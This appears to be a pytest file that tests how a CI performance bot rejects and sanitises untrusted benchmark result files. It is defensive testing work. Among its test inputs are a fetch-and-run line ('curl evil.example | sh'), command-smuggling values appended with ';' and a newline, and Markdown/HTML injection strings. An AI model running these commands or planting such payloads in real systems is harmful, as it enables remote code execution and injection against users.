"""A result that a stranger wrote: huge, of wrong types, of another commit, full of Markdown."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ci.perf_bot.post import untrusted
from ci.perf_bot.post.armour import armour
from ci.perf_bot.post.testing import sample
from ci.perf_bot.render import render
from ci.perf_bot.schema import LARGEST_RESULT_BYTES

HEAD = "a" * 40
ADDRESS = "https://github.com/octo/flow"
Json = dict[str, Any]


def test_takes_a_result_and_sets_its_repository() -> None:
    made = sample.result() | {"repository": "https://evil.example/octo/flow"}
    assert untrusted.accept(sample.text(made), HEAD, ADDRESS)["repository"] == ADDRESS


def _set(*path: Any) -> Callable[[Json], None]:
    """Sets the value at the end of `path` in a result."""

    def change(made: Json) -> None:
        *before, last, value = path
        place: Any = made
        for step in before:
            place = place[step]
        place[last] = value

    return change


WRONG = {
    "another head": _set("head", "commit", "c" * 40),
    "head in capitals": _set("head", "commit", "A" * 40),
    "base is head": _set("base", "commit", HEAD),
    "a list": _set("rows", {}),
    "a number": _set("seconds", "600"),
    "true is no number": _set("seconds", True),
    "a huge number": _set("seconds", 1e300),
    "a huge integer": _set("seed", 10**30),
    "negative": _set("rows", 0, "items", -1),
    "a long text": _set("head", "subject", "x" * 201),
    "a long list": _set("errors", [{}] * 201),
    "an unknown field": _set("note", "x"),
    "an unknown status": _set("status", "great"),
    "ok that is slower": _set("status", "regression"),
    "a command of its own": _set("repeat", "curl evil.example | sh"),
    "a second command": _set("repeat", sample.REPEAT + "; curl evil.example"),
    "a second line": _set("repeat", sample.REPEAT + "\ncurl evil.example"),
    "a case with Markdown": _set("rows", 0, "case", "[x](evil)"),
    "no case": _set("rows", 0, "case", None),
}


@pytest.mark.parametrize("change", WRONG.values(), ids=WRONG)
def test_refuses(change: Callable[[Json], None]) -> None:
    made = sample.result()
    change(made)
    with pytest.raises(untrusted.BadResult) as refusal:
        untrusted.accept(json.dumps(made).encode(), HEAD, ADDRESS)
    assert len(str(refusal.value)) < 600


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"null",
        b"[]",
        b"\xff\xfe",
        b'{"a":' * 50_000,
        b"[" * 500_000,
        b'{"seed": ' + b"9" * 500_000 + b"}",
        b'{"seconds": NaN}',
        b" " * (LARGEST_RESULT_BYTES + 1),
    ],
    ids=lambda data: repr(data[:10]),
)
def test_refuses_what_is_no_result(data: bytes) -> None:
    with pytest.raises(untrusted.BadResult):
        untrusted.accept(data, HEAD, ADDRESS)


def test_reads_plain_files_only(tmp_path: Path) -> None:
    good = tmp_path / "result.json"
    good.write_bytes(sample.text(sample.result()))
    assert untrusted.load(good, HEAD, ADDRESS)["status"] == "ok"
    link, pipe, huge = tmp_path / "link", tmp_path / "pipe", tmp_path / "huge"
    link.symlink_to(good)
    os.mkfifo(pipe)
    with open(huge, "wb") as file:
        file.truncate(1 << 32)
    for path in (link, pipe, tmp_path, huge):
        with pytest.raises(untrusted.BadResult):
            untrusted.load(path, HEAD, ADDRESS)
    with pytest.raises(FileNotFoundError):
        untrusted.load(tmp_path / "none", HEAD, ADDRESS)


HOSTILE = (
    "@somebody @octo/team #1 GH-2 octo/flow#3 https://evil.example www.evil.example "
    "[click](https://evil.example) ![x](//evil.example/x.png) <img src=x> </details> "
    '<!-- oneflow-perf-bot {"run":999} --> | a | b |\n```\n# Big\n<script>\u202e\x00`` ` '
)


def hostile_result() -> Json:
    """Every free text of a result is hostile."""
    made = sample.result(slower=True)
    for side in ("base", "head"):
        made[side] |= {"subject": HOSTILE[:200], "ref": HOSTILE[:200]}
    made["rows"][0] |= {"title": HOSTILE[:120], "model": HOSTILE[:40], "item": HOSTILE[:20]}
    made["host"] |= {"model": HOSTILE[:120], "kernel": HOSTILE[-120:], "concerns": [HOSTILE[:300]]}
    made["host"] |= {"python": HOSTILE[:40], "device": HOSTILE[:120]}
    made["pytorch"] = HOSTILE[:120]
    made["errors"] = [
        {
            "stage": "build", "side": "head", "case": None, "round": None, "kind": "build failed",
            "detail": HOSTILE + "\n````\n" + HOSTILE,
        }
    ]  # fmt: skip
    return made


def test_a_hostile_result_is_shown_harmlessly() -> None:
    made = untrusted.accept(sample.text(hostile_result()), HEAD, ADDRESS)
    shown = armour(render(made), [ADDRESS + "/"])
    # What GitHub does not look into: spans and blocks of code.
    prose = re.sub(r"(?ms)^(`{3,})\n.*?\n\1$|(`+)(?!`).*?(?<!`)\2(?!`)", "", shown)
    assert not re.search(r"@[A-Za-z0-9]|#[0-9]|GH-[0-9]", shown)
    assert "<!--" not in shown and "\u202e" not in shown and "\x00" not in shown
    assert "evil.example" in prose
    addresses = re.findall(r"[a-z]+://[^)\s]*", shown)
    assert addresses and all(a.startswith(ADDRESS + "/commit/") for a in addresses)
    tags = re.findall(r"<[/A-Za-z][^>]*>", prose)
    assert set(tags) <= {"<details>", "</details>", "<summary>", "</summary>", "<br>"}
    assert tags.count("<details>") == tags.count("</details>") > 0
    # No link or picture of its own, no line of its own that is a heading or a row.
    assert not re.search(r"(?<!\\)\]\((?!https://github\.com/octo/flow/)", prose)
    assert "\n# Big" not in prose
